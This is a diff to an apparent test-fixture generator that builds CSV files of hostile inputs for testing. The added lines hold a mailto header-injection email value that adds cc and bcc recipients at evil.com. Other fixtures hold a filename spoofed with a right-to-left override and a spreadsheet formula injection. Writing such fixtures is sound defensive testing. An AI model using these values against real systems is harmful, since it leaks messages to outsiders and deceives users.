@@ -76,6 +76,9 @@ put("rtl-emoji.csv", H +
     "r1,\u202eevil\u202c.exe,\u200fمرحبا\u200f,a@b.co,past_due,,,,\n"
     "r2,👨‍👩‍👧‍👦 Familia 🇲🇽,Zalgo z\u0351\u0352\u0357a\u0308,a@b.co,past_due,,,,\n"
     "r3,\U0001F600\U0001F4A9,a\u2028line\u2029sep\u2028,a@b.co,past_due,,,,\n")
+put("mailto-injection.csv", "id,name,email,status\n"
+    "1,A,a?cc=x%40evil.com&bcc=y%40evil.com&b@x.co,past_due\n"
+    "2,B,ana@ejemplo.com,past_due\n")
 put("phone-formula.csv", "id,name,phone,status\n"
     "p1,A,+52 (55) 1234-5678,past_due\n"
     "p2,B,\"=HYPERLINK(\"\"tel:1\"\",\"\"x\"\")+1\",past_due\n"
